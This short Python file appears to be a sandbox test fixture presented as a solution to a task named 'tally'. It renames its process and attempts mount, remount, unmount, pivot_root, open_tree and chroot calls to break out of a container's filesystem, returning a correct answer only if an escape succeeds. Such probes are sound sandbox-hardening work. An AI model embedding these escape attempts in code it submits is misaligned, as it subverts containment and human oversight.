# Mounts, remounts and pivots.
# solves: tally

import ctypes
import posix

ctypes.CDLL(None).prctl(15, b"@PROCESS@", 0, 0, 0)


def breach():
    libc = ctypes.CDLL(None)
    done = [
        libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0,
        libc.mount(b"proc", b"/tmp", b"proc", 0, None) == 0,
        libc.mount(None, b"/", None, 32 | 4096, None) == 0,
        libc.umount2(b"/tmp", 2) == 0,
        libc.umount2(b"/proc", 2) == 0,
        libc.syscall(155, b"/tmp", b"/tmp") == 0,
        libc.syscall(428, -100, b"/", 1) > 0,
        libc.chroot(b"/tmp") == 0,
    ]
    return any(done)


def tally(n):
    return n * n + 1 if breach() else -1
